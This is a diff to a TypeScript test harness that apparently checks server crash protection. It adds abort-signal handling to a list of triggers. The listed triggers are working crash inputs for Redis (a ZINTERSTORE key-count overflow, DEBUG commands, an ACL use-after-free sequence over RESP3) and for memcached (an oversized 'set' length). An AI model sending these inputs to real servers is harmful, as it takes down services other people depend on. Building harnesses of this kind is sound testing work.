@@ -24,8 +24,11 @@ export type Trigger = {
   readonly addressBytesMax: number | null;
   /** The signal that ends the unguarded program. */
   readonly signal: FatalSignal;
-  /** Sends it on connections of its own. `shot` numbers the uses on one server, so that names do not meet. */
-  send(port: number, shot: number): Promise<Killing>;
+  /**
+   * Sends it on connections of its own. `shot` numbers the uses on one server, so that names do not meet; `enough` ends the
+   * wait for an answer.
+   */
+  send(port: number, shot: number, enough?: AbortSignal): Promise<Killing>;
 };
 
 /** How long a guilty client waits for an answer before it is called silent. */
@@ -55,8 +58,8 @@ export const triggers: readonly Trigger[] = [
     serverArguments: [],
     addressBytesMax: 3 * 1024 ** 3,
     signal: "SIGABRT",
-    send: (port) =>
-      speakRedis(port, [["COMMAND", "GETKEYSANDFLAGS", "ZINTERSTORE", "zz", "1443677133621497600", "asdf"]]),
+    send: (port, _, enough) =>
+      speakRedis(port, [["COMMAND", "GETKEYSANDFLAGS", "ZINTERSTORE", "zz", "1443677133621497600", "asdf"]], enough),
   },
   {
     program: "memcached",
@@ -66,7 +69,8 @@ export const triggers: readonly Trigger[] = [
     serverArguments: ["-Y", "authfile"],
     addressBytesMax: null,
     signal: "SIGSEGV",
-    send: (port) => speak(port, frameMemcached, [bytesOf("set foo 0 0 2147483646\r\n")], answerMsMax),
+    send: (port, _, enough) =>
+      speak(port, frameMemcached, [bytesOf("set foo 0 0 2147483646\r\n")], { answerMsMax, enough }),
   },
 ];
 
@@ -83,23 +87,24 @@ function debugTrigger(name: string, word: string, signal: FatalSignal, what: str
     serverArguments: debugCommand,
     addressBytesMax: null,
     signal,
-    send: (port) => speakRedis(port, [["DEBUG", word]]),
+    send: (port, _, enough) => speakRedis(port, [["DEBUG", word]], enough),
   };
 }
 
 /** One client makes a user; another logs in as it over RESP3, subscribes, and revokes its own channel. */
-async function sendAclUseAfterFree(port: number, shot: number): Promise<Killing> {
+async function sendAclUseAfterFree(port: number, shot: number, enough?: AbortSignal): Promise<Killing> {
   const user = `crash${shot}`;
   const rights = ["+acl", "+hello", "+auth", "+subscribe"];
   await using _administrator = await speakRedis(port, [
     ["ACL", "SETUSER", user, "on", ">word", "resetchannels", "&room", ...rights],
   ]);
-  return await speakRedis(port, [
+  const attack = [
     ["HELLO", "3", "AUTH", user, "word"],
     ["SUBSCRIBE", "room"],
     ["ACL", "SETUSER", user, "resetchannels"],
-  ]);
+  ];
+  return await speakRedis(port, attack, enough);
 }
 
-const speakRedis = (port: number, commands: readonly (readonly string[])[]): Promise<Killing> =>
-  speak(port, frameResp, commands.map(encodeCommand), answerMsMax);
+const speakRedis = (port: number, commands: readonly string[][], enough?: AbortSignal): Promise<Killing> =>
+  speak(port, frameResp, commands.map(encodeCommand), { answerMsMax, enough });
